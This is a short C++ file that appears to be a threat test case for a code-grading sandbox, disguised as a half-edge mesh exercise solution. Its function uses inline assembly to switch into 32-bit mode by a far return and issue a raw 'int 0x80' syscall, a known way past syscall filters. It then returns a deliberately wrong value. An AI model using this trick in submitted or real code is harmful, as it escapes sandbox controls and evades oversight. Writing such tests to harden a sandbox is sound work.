// run_time_error or forbidden_operation 0: THREATS 21, code of the other width by a far return
#include "exercises/01_traversal/face_sides.h"

int face_sides(const HalfEdgeTable& he, int i) {
    asm volatile("pushq $0x23\n lea 1f(%%rip), %%rax\n push %%rax\n lretq\n1: .byte 0xb8,2,0,0,0,0xcd,0x80" : : : "rax", "memory");
    return he[i].fi + 77;
}
